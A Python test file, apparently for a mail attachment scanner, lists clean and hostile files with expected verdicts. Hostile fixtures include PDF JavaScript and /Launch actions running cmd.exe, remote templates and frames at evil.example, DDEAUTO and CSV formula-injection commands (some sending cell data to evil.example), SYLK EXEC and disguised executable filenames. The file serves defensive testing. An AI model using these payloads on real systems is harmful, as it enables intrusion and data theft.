# ruff: noqa: E501
"""What may pass and what may not: files of many producers and the tricks played with them.

Each row says what a file is and its verdict; `no` is any verdict but `ok`, `a|b` either.
"""

import re
import struct
import time

import pytest

from tests.mail.making.mails import File, mail, part, read, several, text, with_file
from tests.mail.making.office import RELS, biff, bomb, odf, ole, ooxml, relations, sheet, zipped
from tests.mail.making.pdf import locked, newer, object_stream, pdf, stream

OCTETS = "application/octet-stream"
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
EXCEL = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
SHEET_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RANDOM = bytes((i * 7919 + (i >> 3) * 104729) % 256 for i in range(3000))
PE = b"MZ\x90\0\3\0\0\0\4\0\0\0\xff\xff\0\0\xb8" + bytes(43) + b"\x80\0\0\0" + b"This program cannot be run in DOS mode"
VBA = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
SUMMARY = ("\x05SummaryInformation", "\x05DocumentSummaryInformation")
WORD_CLSID = bytes.fromhex("0609020000000000c000000000000046")
EXCEL_CLSID = bytes.fromhex("2008020000000000c000000000000046")
DOC = ("1Table", "\x01CompObj", ("WordDocument", b"\xec\xa5\xc1\0" + bytes(60)), *SUMMARY)
BOOK = biff(0x600, sheet("Balance"), sheet("Annexe", hidden=1))
XLS = (("Workbook", BOOK), *SUMMARY)


def row(ident: str, verdict: str, name: str, data: bytes, type: str = OCTETS) -> object:
    return pytest.param(verdict, File(name, data, type), id=ident)


def word(rels: str, **more: bytes | str) -> bytes:
    return ooxml("docx", {"word/settings.xml": "<w:settings/>", "word/_rels/settings.xml.rels": rels, **more})


def linked(target: str, kind: str = "externalLinkPath", link: str = "externalBook") -> bytes:
    """A workbook that names another."""
    return ooxml(
        "xlsx",
        {
            "xl/externalLinks/externalLink1.xml": f'<externalLink xmlns="{SHEET_NS}"><{link} r:id="rId1"/></externalLink>',
            "xl/externalLinks/_rels/externalLink1.xml.rels": relations((kind, target), external=True),
        },
    )


def dde() -> bytes:
    link = f'<externalLink xmlns="{SHEET_NS}"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    return ooxml("xlsx", {"xl/externalLinks/externalLink1.xml": link})


def tiff(order: str = "<") -> bytes:
    return (b"II*\0" if order == "<" else b"MM\0*") + struct.pack(order + "IHHHII", 8, 1, 256, 3, 1, 800) + bytes(40)


def heic(brand: bytes) -> bytes:
    return struct.pack(">I", 24) + b"ftyp" + brand + bytes(4) + b"mif1heic" + bytes(60)


JPEG = b"\xff\xd8\xff\xe0\0\x10JFIF\0\1\1\0\0\1\0\1\0\0" + RANDOM[:300] + b"\xff\xd9"
EXIF = (
    b"\xff\xd8\xff\xe1\0\x30Exif\0\0MM\0*\0\0\0\x08" + b"Apple iPhone 14 <b>" + bytes(20) + RANDOM[:300] + b"\xff\xd9"
)
PNG = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\2\0\0\0\1\0\x08\2\0\0\0" + RANDOM[:200] + b"\0\0\0\0IEND\xaeB`\x82"
FACTUR_X = (
    "<</Type/Filespec/F(factur-x.xml)/UF(factur-x.xml)/AFRelationship/Data/EF<</F 7 0 R>>>>",
    stream(b'<?xml version="1.0"?><rsm:CrossIndustryInvoice/>', "/Type/EmbeddedFile/Subtype/text#2Fxml"),
)
NAMES_OF_FILES = "/AF[6 0 R]/Names<</EmbeddedFiles<</Names[(factur-x.xml)6 0 R]>>>>/Metadata 8 0 R"
SIGNED = "<</Type/Sig/Filter/Adobe.PPKLite/SubFilter/adbe.pkcs7.detached/ByteRange[0 9 19 9]/Contents<3082>>>"
FIELD = "<</Type/Annot/Subtype/Widget/FT/Tx/T(Montant)/V(1 250,00)/Rect[0 0 9 9]>>"

# fmt: off
CLEAN_PDF = [
    row("chrome", "ok", "Relevé.pdf", pdf(version="1.4"), "application/pdf"),
    row("upper-case", "ok", "BILAN 2025.PDF", pdf(), "application/pdf"),
    row("php-download", "ok", "facture.pdf", pdf(), "application/force-download"),
    row("x-pdf", "ok", "facture.pdf", pdf(), "application/x-pdf"),
    row("form", "ok", "2035.pdf", pdf("/AcroForm<</Fields[6 0 R]/DA(/Helv 0 Tf)>>", more=(FIELD,)), "application/pdf"),
    row("signed", "ok", "mandat.pdf", pdf("/AcroForm<</SigFlags 3/Fields[6 0 R]>>", more=(SIGNED,)), "application/pdf"),
    row("signed-later", "ok", "mandat.pdf", pdf() + b"6 0 obj\n" + SIGNED.encode() + b"\nendobj\n%%EOF\n"),
    row("linearised", "ok", "x.pdf", pdf().replace(b"1 0 obj\n<<", b"9 0 obj\n<</Linearized 1/L 9/O 3>>\nendobj\n1 0 obj\n<<")),
    row("font", "ok", "x.pdf", pdf(more=(stream(RANDOM, "/Length1 3000"), "<</Type/FontDescriptor/FontFile2 6 0 R>>"))),
    row("object-streams", "ok", "x.pdf", newer("<</Type/Annot/Subtype/Link>>", "<</Fields[]>>"), "application/pdf"),
    row("open-at-page", "ok", "x.pdf", pdf("/OpenAction[3 0 R/XYZ null null 0]/PageMode/UseOutlines"), "application/pdf"),
    row("open-by-goto", "ok", "x.pdf", pdf("/OpenAction<</S/GoTo/D[3 0 R/Fit]>>/Lang(fr-FR)"), "application/pdf"),
    row("web-link", "ok", "x.pdf", pdf(page="/Annots[<</Subtype/Link/A<</S/URI/URI(https://impots.gouv.fr)>>>>]")),
    row("factur-x", "ok", "F2025-118.pdf", pdf(NAMES_OF_FILES, more=FACTUR_X, version="1.7"), "application/pdf"),
    row("zugferd", "ok", "F.pdf", pdf(NAMES_OF_FILES, more=(FACTUR_X[0].replace("factur-x", "ZUGFeRD-invoice"), FACTUR_X[1]))),
    row("factur-x-utf16", "ok", "F.pdf", pdf(more=("<</Type/Filespec/F(factur-x.xml)/UF<FEFF0066006100630074007500720\
02D0078002E0078006D006C>/EF<</F 7 0 R/UF 7 0 R>>>>", FACTUR_X[1]))),
    row("factur-x-object-stream", "ok", "F.pdf", pdf(more=(object_stream(FACTUR_X[0]), FACTUR_X[1]), version="1.7")),
    row("joined-pdf", "ok", "x.pdf", pdf(more=(FACTUR_X[0].replace(".xml", ".pdf"), stream(pdf(), "/Type/EmbeddedFile")))),
    row("scan", "ok", "Scan_20251124.pdf", pdf(more=(stream(JPEG, "/Subtype/Image/Filter/DCTDecode", packed=False),))),
    row("scan-bytes-like-names", "ok", "Scan.pdf", pdf(more=(stream(RANDOM + b"/JS(\x80 /AA<<\x01/Launc ", "", False),))),
    row("words-about-scripts", "ok", "cours.pdf", pdf(more=(stream(b"BT (/JavaScript /Launch /JS 12 0 R) Tj ET"),))),
    row("names-alike", "ok", "x.pdf", pdf(more=("<</JSX 1/Launches 2/AAPL:Keywords[(a)]/JavaScripts 3>>",))),
    row("quartz", "ok", "x.pdf", pdf(trailer="/Info<</Producer(macOS Quartz PDFContext)/AAPL:Keywords[]>>", version="1.3")),
    row("bank-40-bits", "ok", "Releve.pdf", locked(2), "application/pdf"),
    row("bank-128-bits", "ok", "Releve.pdf", locked(3, hexadecimal=True), "application/pdf"),
    row("bank-aes", "ok", "Releve.pdf", locked(4), "application/pdf"),
    row("bank-aes-256", "ok", "Releve.pdf", locked(5), "application/pdf"),
    row("bank-pdf-2", "ok", "Releve.pdf", locked(6), "application/pdf"),
    row("blank-line-first", "ok", "x.pdf", b"\r\n" + pdf(), "application/pdf"),
    row("byte-order-mark-first", "ok", "x.pdf", b"\xef\xbb\xbf" + pdf(), "application/pdf"),
    row("copier-adds-zeros", "ok", "x.pdf", pdf() + bytes(600), "application/pdf"),
    row("no-name", "ok", "", pdf(), "application/pdf"),
    row("no-ending", "ok", "Bilan 2025 SARL Dupont & Fils", pdf(), "application/pdf"),
    row("date-for-ending", "ok", "Scan 2025.11.24", pdf(), "application/pdf"),
    row("firm-for-ending", "ok", "Devis S.A.R.L. Martin", pdf(), "application/pdf"),
    row("site-in-name", "ok", "releve www.dupont.com.pdf", pdf(), "application/pdf"),
    row("version-in-name", "ok", "2035 v1.2.bis.pdf", pdf(), "application/pdf"),
    row("dot-at-end", "ok", "bilan.pdf.", pdf(), "application/pdf"),
    row("space-before-ending", "ok", "bilan .pdf", pdf(), "application/pdf"),
]

ACTIVE_PDF = [
    row("names-tree", "refused", "x.pdf", pdf("/Names<</JavaScript<</Names[(a)6 0 R]>>>>", more=("<</S/JavaScript/JS(x)>>",))),
    row("page-opens", "refused", "x.pdf", pdf(page="/AA<</O<</S/JavaScript/JS(app.alert(1))>>>>")),
    row("escaped", "refused", "x.pdf", pdf("/OpenAction<</S/#4aava#53cript/#4A#53(x)>>")),
    row("split-lines", "refused", "x.pdf", pdf("/OpenAction\r\n<<\r\n/S\r\n/JavaScript\r\n/JS\r\n(x)\r\n>>")),
    row("object-stream", "refused", "x.pdf", newer("<</S/JavaScript/JS(x)>>", "<</Fields[]>>", catalog="/OpenAction 11 0 R")),
    row("plain-object-stream", "refused", "x.pdf", pdf(more=(object_stream("<</S/JavaScript/JS(x)>>", packed=False),))),
    row("later-revision", "refused", "x.pdf", pdf() + b"1 0 obj\n<</OpenAction<</S/JavaScript/JS(x)>>>>\nendobj\n%%EOF"),
    row("password", "refused", "x.pdf", locked(3, b"1234"), "application/pdf"),
    row("password-aes", "refused", "x.pdf", locked(4, b"1234"), "application/pdf"),
    row("password-40-bits", "refused", "x.pdf", locked(2, b"1234"), "application/pdf"),
    row("password-256", "refused", "x.pdf", locked(5, b"1234"), "application/pdf"),
    row("locked-without-its-lock", "refused", "x.pdf", pdf(trailer="/Encrypt 9 0 R"), "application/pdf"),
    row("locked-and-packed", "refused", "x.pdf", locked(4, more=(stream(RANDOM, "/Type/ObjStm/N 3/First 20"),)), "application/pdf"),
    row("odd-packing", "refused", "x.pdf", pdf(more=(stream(RANDOM, "/Type/ObjStm/N 3/Filter[/AHx/FlateDecode]"),))),
    row("packed-far-off", "refused", "x.pdf", pdf(more=(object_stream("<</S/JavaScript/JS(x)>>", extra=" " * 5000),))),
    row("packed-behind-much", "refused", "x.pdf", pdf(more=(object_stream("<<" + " " * 3_000_000 + "/S/JavaScript/JS(x)>>"),))),
    row("packed-behind-too-much", "refused", "x.pdf", pdf(more=(*[object_stream(" " * 3_000_000)] * 8, object_stream("<</S/JavaScript>>")))),
    row("joined-too-many", "refused", "x.pdf", pdf(more=("<</Type/EmbeddedFile/F(a.xml)>>" * 6000,))),
    row("packed-name-spelt", "refused", "x.pdf", pdf(more=(object_stream("<</S/JavaScript>>").replace(b"ObjStm", b"Obj#53tm"),))),
    row("launch", "refused", "x.pdf", pdf("/OpenAction<</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>")),
    row("launch-spaced", "refused", "x.pdf", pdf(page="/Annots[<</A<</S /Launch /F (a.exe)>>>>]")),
    row("embedded-exe", "no", "x.pdf", pdf(more=(FACTUR_X[0].replace("factur-x.xml", "facture.exe"), stream(PE, "/Type/EmbeddedFile")))),
    row("joined-pdf-that-runs", "refused", "x.pdf", pdf(more=(FACTUR_X[0].replace(".xml", ".pdf"), stream(pdf("/OpenAction<</S/JavaScript/JS(x)>>"), "/Type/EmbeddedFile")))),
    row("joined-name-in-utf-16", "refused", "x.pdf", pdf(more=("<</Type/Filespec/UF<FEFF0061002E006500780065>/EF<</F 7 0 R>>>>", stream(PE, "/Type/EmbeddedFile")))),
    row("embedded-docm", "no", "x.pdf", pdf(more=(FACTUR_X[0].replace("factur-x.xml", "a.docm"), stream(VBA, "/Type/EmbeddedFile")))),
    row("flash", "no", "x.pdf", pdf(page="/Annots[<</Subtype/RichMedia/RichMediaContent 6 0 R>>]")),
    row("html-first", "no", "x.pdf", b"<html><script>x()</script>" + b" " * 900 + pdf(), "application/pdf"),
    row("html-only", "disguised", "x.pdf", b"<!DOCTYPE html><html><body>Facture</body></html>", "application/pdf"),
    row("program", "disguised", "x.pdf", PE + RANDOM, "application/pdf"),
    row("elf", "disguised", "x.pdf", b"\x7fELF\2\1\1" + RANDOM, "application/pdf"),
    row("shortcut", "disguised", "x.pdf", b"L\0\0\0\1\x14\2\0\0\0\0\0\xc0\0\0\0\0\0\0F" + RANDOM, "application/pdf"),
    row("zip-inside", "disguised", "x.pdf", zipped({"a.js": "x"}), "application/pdf"),
    row("named-word", "disguised|no", "x.docx", pdf(), WORD),
]

CLEAN_OFFICE = [
    row("word", "ok", "Réponse.docx", ooxml("docx", {"word/styles.xml": "<x/>", "docProps/app.xml": "<x/>"}), WORD),
    row("google-docs", "ok", "x.docx", ooxml("docx", flagged=True), WORD),
    row("libreoffice-docx", "ok", "x.docx", ooxml("docx", last=True), "application/msword"),
    row("as-zip", "ok", "x.xlsx", ooxml("xlsx"), "application/x-zip-compressed"),
    row("as-octets", "ok", "x.xlsx", ooxml("xlsx")),
    row("excel", "ok", "Balance générale.xlsx", ooxml("xlsx", {"xl/calcChain.xml": "<x/>", "xl/sharedStrings.xml": "<x/>"}), EXCEL),
    row("picture-names-no-macro", "ok", "x.xlsx", ooxml("xlsx", {"xl/drawings/drawing1.xml": '<xdr:pic macro=""/>'}), EXCEL),
    row("other-workbook", "ok", "x.xlsx", linked(r"file:///\\SERVEUR\compta\2024\balance.xlsx"), EXCEL),
    row("other-workbook-near", "ok", "x.xlsx", linked("Balance%202024.xlsx"), EXCEL),
    row("printer-settings", "ok", "x.xlsx", ooxml("xlsx", {"xl/printerSettings/printerSettings1.bin": RANDOM}), EXCEL),
    row("sheet-in-letter", "ok", "x.docx", ooxml("docx", {"word/embeddings/Feuille1.xlsx": ooxml("xlsx")}), WORD),
    row("links-in-letter", "ok", "x.docx", ooxml("docx", {"word/_rels/document.xml.rels": relations(("hyperlink", "https://impots.gouv.fr/x"), ("hyperlink", "mailto:a@b.example"), external=True)}), WORD),
    row("own-template", "ok", "x.docx", word(relations(("attachedTemplate", r"file:///C:\Users\cd\AppData\Roaming\Microsoft\Templates\Lettre.dotx"), external=True)), WORD),
    row("strict", "ok", "x.xlsx", ooxml("xlsx", {"docProps/core.xml": '<x xmlns="http://purl.oclc.org/ooxml/spreadsheetml/main"/>'}), EXCEL),
    row("pictures", "ok", "x.docx", ooxml("docx", {"word/media/image1.jpeg": JPEG, "word/media/image2.emf": RANDOM, "docProps/thumbnail.jpeg": JPEG}), WORD),
    row("custom-xml", "ok", "x.docx", ooxml("docx", {"customXml/item1.xml": "<x/>", "customXml/itemProps1.xml": "<x/>"}), WORD),
    row("odt", "ok", "x.odt", odf("text"), "application/vnd.oasis.opendocument.text"),
    row("ods-chart", "ok", "x.ods", odf("spreadsheet", {"Object 1/content.xml": "<x/>", "ObjectReplacements/Object 1": RANDOM})),
    row("ods-as-zip", "ok", "x.ods", odf("spreadsheet"), "application/zip"),
    row("doc", "ok", "Attestation.doc", ole(*DOC, clsid=WORD_CLSID), "application/msword"),
    row("doc-with-pictures", "ok", "x.doc", ole(*DOC, ("Data", RANDOM), clsid=WORD_CLSID), OCTETS),
    row("xls", "ok", "Grand livre.xls", ole(*XLS, clsid=EXCEL_CLSID), "application/vnd.ms-excel"),
    row("xls-excel5", "ok", "x.xls", ole(("Book", biff(0x500, sheet("Feuil1")))), "application/vnd.ms-excel"),
    row("xls-no-summary", "ok", "export.xls", ole(("Workbook", BOOK)), "application/vnd.ms-office"),
    row("xls-shared", "ok", "x.xls", ole(*XLS, ("\x05Revision Log", b""), ("\x01CompObj", b"")), "application/excel"),
]

ODD_OFFICE = [
    row("docm", "macro", "x.docm", ooxml("docm", {"word/vbaProject.bin": VBA})),
    row("docm-as-docx", "macro", "x.docx", ooxml("docm", {"word/vbaProject.bin": VBA}), WORD),
    row("vba-other-name", "macro", "x.docx", ooxml("docx", {"word/data7.bin": ole("VBA/", "dir", "_VBA_PROJECT", "ThisDocument"), "word/_rels/document.xml.rels": relations(("../../microsoft.com/office/2006/relationships/vbaProject", "data7.bin"))}), WORD),
    row("xlsm", "macro", "x.xlsm", ooxml("xlsm", {"xl/vbaProject.bin": VBA})),
    row("xlsm-upper", "macro", "x.xlsx", ooxml("xlsx", {"XL/VBAPROJECT.BIN": VBA}), EXCEL),
    row("xlsm-without-project", "no", "x.xlsx", ooxml("xlsm"), EXCEL),
    row("xlsb-as-xlsx", "no", "x.xlsx", ooxml("xlsb"), EXCEL),
    row("xlsb", "no", "x.xlsb", ooxml("xlsb")),
    row("macro-sheet", "macro", "x.xlsx", ooxml("xlsx", {"xl/macrosheets/sheet1.xml": "<xm:macrosheet/>"}), EXCEL),
    row("dotm", "macro|no", "x.dotm", ooxml("dotm", {"word/vbaProject.bin": VBA})),
    row("xlam-as-xlsx", "no", "x.xlsx", ooxml("xlam"), EXCEL),
    row("pptx", "refused", "x.pptx", ooxml("pptx")),
    row("pptx-as-docx", "no", "x.docx", ooxml("pptx"), WORD),
    row("active-x", "no", "x.docx", ooxml("docx", {"word/activeX/activeX1.xml": "<x/>", "word/activeX/activeX1.bin": RANDOM}), WORD),
    row("remote-template", "no", "x.docx", word(relations(("attachedTemplate", "https://evil.example/a.dotm"), external=True)), WORD),
    row("remote-template-share", "no", "x.docx", word(relations(("attachedTemplate", r"\\203.0.113.9@80\a\b.dotm"), external=True)), WORD),
    row("remote-template-far-behind", "no", "x.docx", word(relations(("attachedTemplate", "https://evil.example/a.dotm"), external=True).replace("<Relationship ", " " * 2_000_000 + "<Relationship ")), WORD),
    row("remote-template-too-far", "no", "x.docx", word(relations(("attachedTemplate", "https://evil.example/a.dotm"), external=True).replace("<Relationship ", " " * 4_000_000 + "<Relationship ")), WORD),
    row("remote-template-among-many", "no", "x.docx", word(relations(("attachedTemplate", "https://evil.example/a.dotm"), external=True), **{f"word/_rels/a{n}.xml.rels": "<x/>" for n in range(1200)}), WORD),
    row("workbook-of-many-sheets", "ok", "x.xlsx", ooxml("xlsx", {f"xl/worksheets/_rels/sheet{n}.xml.rels": relations(("drawing", "../drawings/a.xml")) for n in range(400)}), EXCEL),
    row("remote-object", "no", "x.docx", ooxml("docx", {"word/_rels/document.xml.rels": relations(("oleObject", "mhtml:https://evil.example/x.html!x-usc:https://evil.example/x.html"), external=True)}), WORD),
    row("remote-frame", "no", "x.docx", ooxml("docx", {"word/_rels/webSettings.xml.rels": relations(("frame", "http://evil.example/a.html"), external=True)}), WORD),
    row("single-quotes", "no", "x.docx", word(relations(("attachedTemplate", "http://evil.example/a"), external=True).replace('"', "'")), WORD),
    row("dde-in-sheet", "no", "x.xlsx", dde(), EXCEL),
    row("dde-in-letter", "no", "x.docx", ooxml("docx", {"word/footer1.xml": '<w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText>'}), WORD),
    row("packaged-program", "no", "x.docx", ooxml("docx", {"word/embeddings/oleObject1.bin": ole(("\x01Ole10Native", b"\2\0a.exe\0" + PE))}), WORD),
    row("program-in-zip", "no", "x.docx", ooxml("docx", {"word/media/image1.png": PE + RANDOM, "word/a.exe": PE}), WORD),
    row("entities", "refused", "x.xlsx", ooxml("xlsx", {"xl/sharedStrings.xml": '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><x>&b;</x>'}), EXCEL),
    row("entities-utf16", "refused", "x.xlsx", ooxml("xlsx", {"xl/sharedStrings.xml": '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE x [<!ENTITY a "a">]><x/>'.encode("utf-16")}), EXCEL),
    row("bomb", "no", "x.xlsx", bomb(150), EXCEL),
    row("zip-as-docx", "no", "x.docx", zipped({"facture.js": "x()"}), WORD),
    row("jar-as-docx", "no", "x.docx", zipped({"META-INF/MANIFEST.MF": "x", "A.class": b"\xca\xfe\xba\xbe"}), WORD),
    row("password-docx", "refused", "x.docx", ole("EncryptionInfo", ("EncryptedPackage", RANDOM)), WORD),
    row("doc-macro", "macro", "x.doc", ole(*DOC, "Macros/", "VBA/", "dir", "_VBA_PROJECT", "ThisDocument"), "application/msword"),
    row("xls-macro", "macro", "x.xls", ole(*XLS, "_VBA_PROJECT_CUR/", "VBA/", "dir", "_VBA_PROJECT"), "application/vnd.ms-excel"),
    row("xls-macro-sheet", "macro", "x.xls", ole(("Workbook", biff(0x600, sheet("Feuil1"), sheet("M", 1, 2))), *SUMMARY)),
    row("doc-dde", "no", "x.doc", ole(*DOC[:2], ("WordDocument", b"\xec\xa5" + bytes(600) + b'\x13DDEAUTO c:\\windows\\system32\\cmd.exe "/k x"\x14\x15'))),
    row("doc-package", "no", "x.doc", ole(*DOC, "ObjectPool/", "_1234/", ("\x01Ole10Native", PE))),
    row("msi-as-doc", "no", "x.doc", ole("\u4840\u3f3f\u4577\u446c\u3b6a", "\x05SummaryInformation"), "application/msword"),
    row("ppt-as-doc", "no", "x.doc", ole("PowerPoint Document", "Current User"), "application/msword"),
    row("msg", "refused", "Mail.msg", ole("__properties_version1.0", "__substg1.0_0037001F"), "application/vnd.ms-outlook"),
    row("rtf-as-doc", "no", "x.doc", b"{\\rtf1\\ansi{\\object\\objdata 0105}}", "application/msword"),
    row("rtf", "refused", "x.rtf", b"{\\rtf1\\ansi Bonjour}", "application/rtf"),
    row("html-as-xls", "no", "export.xls", b"<html><head><meta charset=utf-8></head><body><table><tr><td>1", "application/vnd.ms-excel"),
    row("mht-as-doc", "no", "x.doc", b"MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=a\r\n\r\n--a\r\nQWN0aXZlTWltZQ", "application/msword"),
    row("word2003-macro", "no", "x.doc", b'<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument w:macrosPresent="yes"/>', "application/msword"),
    row("odt-basic", "macro", "x.odt", odf("text", {"Basic/Standard/Module1.xml": "<script:module/>", "Basic/Standard/script-lb.xml": "<x/>"})),
    row("ods-python", "macro", "x.ods", odf("spreadsheet", {"Scripts/python/a.py": "import os"})),
    row("odt-listener", "no", "x.odt", odf("text", scripts='<office:scripts><office:event-listeners><script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:a.b?language=Basic"/></office:event-listeners></office:scripts>')),
    row("ods-dde", "no", "x.ods", odf("spreadsheet", {"content.xml": '<office:document-content xmlns:office="urn:x"><table:dde-links><office:dde-source office:dde-application="cmd"/></table:dde-links></office:document-content>'})),
    row("epub-as-odt", "no", "x.odt", zipped({"mimetype": "application/epub+zip", "content.xml": "<x/>"}, stored="mimetype")),
]

PICTURES_AND_TEXT = [
    row("jpeg", "ok", "IMG_0123.jpg", JPEG, "image/jpeg"),
    row("exif", "ok", "IMG_0123.JPEG", EXIF, "image/pjpeg"),
    row("image-jpg", "ok", "photo.jpg", EXIF, "image/jpg"),
    row("png", "ok", "Capture d'écran.png", PNG, "image/png"),
    row("tiff-intel", "ok", "fax.tif", tiff("<"), "image/tiff"),
    row("tiff-motorola", "ok", "fax.TIFF", tiff(">"), OCTETS),
    row("heic", "ok", "IMG_1.HEIC", heic(b"heic"), "image/heic"),
    row("heif-mif1", "ok", "IMG_1.heic", heic(b"mif1"), "image/heif"),
    row("png-as-jpg", "ok", "image0.jpg", PNG, "image/jpeg"),
    row("heic-as-jpg", "ok", "IMG_2.jpg", heic(b"heix"), "image/jpeg"),
    row("jpeg-as-heic", "ok", "IMG_2.heic", JPEG, "image/heic"),
    row("program-as-jpg", "disguised", "IMG.jpg", PE + RANDOM, "image/jpeg"),
    row("svg", "refused", "logo.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><script>x()</script></svg>", "image/svg+xml"),
    row("svg-as-png", "disguised", "logo.png", b"<svg xmlns='http://www.w3.org/2000/svg' onload='x()'/>", "image/png"),
    row("csv-cp1252", "ok", "export.csv", "Libellé;Débit\r\nHonoraires perçus;1 250,00\r\n".encode("cp1252"), "text/csv"),
    row("csv-as-excel", "ok", "export.csv", "Libellé;Débit\r\nA;1\r\n".encode(), "application/vnd.ms-excel"),
    row("csv-minus", "ok", "b.csv", "Compte;Solde\n401000;-1 250,00\n411;- 12,5 €\n512;-1.250,00\n6;+15%\n".encode(), "text/csv"),
    row("csv-phone", "ok", "tiers.csv", b'Nom;Tel;X\nDupont;+33 5 59 00 00 00;@dupont64\nM;+33(0)559000000;"@cabinet, Pau"\n', "text/csv"),
    row("csv-dashes", "ok", "b.csv", b"--- Balance ---;\n- charges;12\n-;-\n=====;\n+;-\n-A-;x\n", "text/csv"),
    row("csv-id", "ok", "adherents.csv", "ID;Prénom;Nom\r\n1;Claire;Durand\r\n".encode("cp1252"), "text/csv"),
    row("csv-kept-zero", "ok", "b.csv", b'Compte;Montant\n="00123";"12"\n', "text/csv"),
    row("csv-sum", "ok|refused", "b.csv", b"A;B\n1;=A2+1\n2;=SUM(B1:B2)\n", "text/csv"),
    row("csv-command", "no", "b.csv", b"A;B\n1;=cmd|'/c calc'!A1\n", "text/csv"),
    row("csv-plus-command", "no", "b.csv", b"A;B\n1;+cmd|'/c calc'!A1\n", "text/csv"),
    row("csv-minus-command", "no", "b.csv", b"A;B\n1;-2+3+cmd|' /C calc'!A0\n", "text/csv"),
    row("csv-at-sum", "no", "b.csv", b"A;B\n1;@SUM(1+1)*cmd|' /C calc'!A0\n", "text/csv"),
    row("csv-quoted", "no", "b.csv", b'A,B\n1,"=HYPERLINK(""http://evil.example?x=""&A1,""Voir"")"\n', "text/csv"),
    row("csv-web", "no", "b.csv", b'A;B\n1; =WEBSERVICE("http://evil.example/"&A1)\n', "text/csv"),
    row("csv-wide", "no", "b.csv", "A\tB\n1\t=cmd|'/c calc'!A1\n".encode("utf-16"), "text/csv"),
    row("csv-wide-clean", "ok", "b.csv", "Compte\tDébit\n512\t-12,50\n".encode("utf-16"), "text/csv"),
    row("sylk", "no", "b.csv", b"ID;P\r\nO;E\r\nNN;NAuto_open;ER101C1;KOut Flank;F\r\nC;X1;Y101;EEXEC(\"CALC.EXE\")\r\nE\r\n", "text/csv"),
    row("fec", "ok", "123456789FEC20251231.txt", "JournalCode\tDebit\nBQ\t-12,50\nAC\t=\n".encode("cp1252"), "text/plain"),
    row("txt-utf16", "ok", "note.txt", "Bonjour, voici le détail\r\n".encode("utf-16"), "text/plain"),
    row("txt-empty", "ok|refused", "note.txt", b"", "text/plain"),
    row("txt-that-names-pdf", "ok", "note.txt", b"Le fichier %PDF-1.4 ne s'ouvre pas; <b>gras</b> non plus. MZ.", "text/plain"),
    row("txt-program", "no", "note.txt", PE + RANDOM, "text/plain"),
    row("xml", "refused", "facture.xml", b"<?xml version='1.0'?><Invoice/>", "application/xml"),
]

OTHERS = [
    row("zip", "refused", "Pieces.zip", zipped({"a.pdf": pdf()}), "application/zip"),
    row("7z", "refused", "a.7z", b"7z\xbc\xaf'\x1c\0\4" + RANDOM),
    row("rar", "refused", "a.rar", b"Rar!\x1a\7\1\0" + RANDOM),
    row("gz", "refused", "a.csv.gz", b"\x1f\x8b\x08\0" + RANDOM, "application/gzip"),
    row("rar-as-pdf", "no", "a.pdf", b"Rar!\x1a\7\1\0" + RANDOM, "application/pdf"),
    row("iso", "no", "facture.iso", bytes(32769) + b"CD001" + bytes(100)),
    row("iso-as-pdf", "no", "facture.pdf", bytes(32769) + b"CD001" + bytes(100), "application/pdf"),
    row("vhd", "no", "a.vhdx", b"vhdxfile" + RANDOM),
    row("one", "refused|disguised", "a.one", bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + RANDOM),
    row("one-as-doc", "no", "a.doc", bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + RANDOM, "application/msword"),
    row("hta", "refused|disguised", "a.hta", b"<script>x()</script>", "text/html"),
    row("eml", "refused", "Mail.eml", b"From: a@b.example\r\nSubject: x\r\n\r\nOui, valid\xe9\r\n"),
    row("p7m", "refused", "contrat.pdf.p7m", b"0\x82\x01\0\6\t*\x86H\x86\xf7\r\1\7\2" + RANDOM),
    row("pages", "refused", "note.pages", zipped({"Index/Document.iwa": RANDOM})),
    row("numbers-as-xlsx", "no", "x.xlsx", zipped({"Index/Document.iwa": RANDOM}), EXCEL),
    row("exe", "no", "a.exe", PE),
    row("exe-double", "no", "facture.pdf.exe", PE, "application/pdf"),
    row("exe-double-as-pdf", "no", "facture.pdf.scr", pdf(), "application/pdf"),
    row("right-to-left", "disguised", "facture\u202efdp.exe", PE, OCTETS),
    row("right-to-left-pdf", "no", "facture\u202excod.pdf", pdf(), "application/pdf"),
    row("hard-spaces", "no", "facture.pdf\u00a0\u00a0\u00a0.exe", PE, "application/pdf"),
    row("second-stream", "no", "facture.pdf:a.exe", PE, "application/pdf"),
    row("wide-dot", "no", "facture.pdf\uff0eexe", PE, "application/pdf"),
    row("wide-letters", "ok|refused|disguised", "facture.ｐｄｆ", pdf(), "application/pdf"),
    row("semicolon", "no", "facture.exe;.pdf", PE, "application/pdf"),
    row("video", "refused", "IMG_1.MOV", struct.pack(">I", 20) + b"ftypqt  " + RANDOM, "video/quicktime"),
    row("calendar", "refused", "rdv.ics", b"BEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n", "text/calendar"),
    row("card", "refused", "cd.vcf", b"BEGIN:VCARD\r\nFN:Claire Durand\r\nEND:VCARD\r\n", "text/x-vcard"),
]

# fmt: on
HELD = {"disguised", "macro", "infected"}


@pytest.mark.parametrize(
    ("verdict", "file"), [*CLEAN_PDF, *ACTIVE_PDF, *CLEAN_OFFICE, *ODD_OFFICE, *PICTURES_AND_TEXT, *OTHERS]
)
def test_a_file_gets_its_verdict(verdict: str, file: File) -> None:
    found = read(with_file(file))
    verdicts = [attached["verdict"] for attached in found["attachments"]]
    assert len(verdicts) == 1, found["attachments"]
    assert verdicts[0] in ([*HELD, "refused"] if "no" in verdict.split("|") else verdict.split("|"))
    assert found["disposition"] == ("hold" if verdicts[0] in HELD else "accept")
    assert found["text"].endswith("1 250 €.")


@pytest.mark.parametrize(
    ("head", "name", "verdict"),
